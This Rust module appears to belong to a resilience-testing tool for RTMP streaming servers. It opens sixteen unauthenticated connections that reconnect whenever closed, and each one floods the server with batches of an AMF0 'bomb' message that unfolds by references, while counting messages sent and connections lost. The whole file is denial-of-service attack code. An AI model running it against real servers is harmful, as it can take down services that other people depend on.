//! Data messages that unfold by references, from connections that have not even said `connect`.

use std::time::Duration;

use tokio::task::JoinSet;
use tokio::time::sleep;

use super::amf::{DATA_AMF0, bomb};
use super::context::Context;
use super::error::AttackError;
use super::rtmp::RtmpPeer;

/// Connections at a time.
const CONNECTIONS: usize = 16;

/// Bytes that are queued before they are sent.
const BATCH: usize = 32 << 10;

/// From the end of a connection to the next one.
const PAUSE: Duration = Duration::from_millis(100);

pub(super) async fn run(context: &Context) -> Result<(), AttackError> {
    let mut connections = JoinSet::new();
    for source in 0..CONNECTIONS {
        let context = context.clone();
        connections.spawn(async move {
            // A connection that is closed is replaced: the attacker has nothing to lose.
            loop {
                if flood(&context, source).await.is_err() {
                    context.add("connections closed", 1.0);
                }
                sleep(PAUSE).await;
            }
        });
    }
    context.rest().await;
    Ok(())
}

async fn flood(context: &Context, source: usize) -> Result<(), AttackError> {
    let mut peer = RtmpPeer::greet(context, source).await?;
    let message = bomb();
    loop {
        let mut messages = 0;
        while peer.queued() < BATCH {
            peer.push(DATA_AMF0, 0, message.clone());
            messages += 1;
        }
        peer.flush(context).await?;
        context.add("messages", f64::from(messages));
    }
}
